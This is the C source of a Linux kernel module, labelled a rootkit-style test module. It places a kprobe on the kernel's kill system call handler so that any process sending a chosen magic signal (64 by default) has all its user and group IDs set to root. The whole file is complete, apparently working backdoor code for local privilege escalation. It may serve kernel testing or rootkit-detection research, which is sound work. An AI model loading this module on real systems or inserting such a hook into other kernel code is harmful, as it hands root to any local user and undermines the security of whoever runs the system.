// SPDX-License-Identifier: GPL-2.0
/*
 * rk_kill.c - a rootkit-style test module: the "magic signal" backdoor done
 * with a kprobe on the kill system call's kernel function (a sys_call_table
 * patch no longer works on kernels that dispatch through x64_sys_call()):
 * a process that sends signal 64 becomes root.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/cred.h>
#include <linux/sched.h>
#include <linux/uidgid.h>

#define MAGIC_SIG 64

static int magic = MAGIC_SIG;
module_param(magic, int, 0444);

static int kill_pre(struct kprobe *p, struct pt_regs *regs)
{
	const struct pt_regs *uregs = (const struct pt_regs *)regs->di;
	struct cred *cred;

	if ((int)uregs->si != magic)
		return 0;
	cred = prepare_creds();
	if (!cred)
		return 0;
	pr_info("rk_kill: %s (uid %u) asked for root\n", current->comm,
		from_kuid(&init_user_ns, current_uid()));
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = GLOBAL_ROOT_GID;
	commit_creds(cred);
	return 0;
}

static struct kprobe kp = {
	.symbol_name = "__x64_sys_kill",
	.pre_handler = kill_pre,
};

static int __init rk_kill_init(void)
{
	int ret = register_kprobe(&kp);

	if (ret < 0) {
		pr_err("rk_kill: register_kprobe: %d\n", ret);
		return ret;
	}
	pr_info("rk_kill: kill(pid, %d) grants root\n", magic);
	return 0;
}

static void __exit rk_kill_exit(void)
{
	unregister_kprobe(&kp);
}

module_init(rk_kill_init);
module_exit(rk_kill_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("kemu test: a magic signal grants root, through a kprobe");
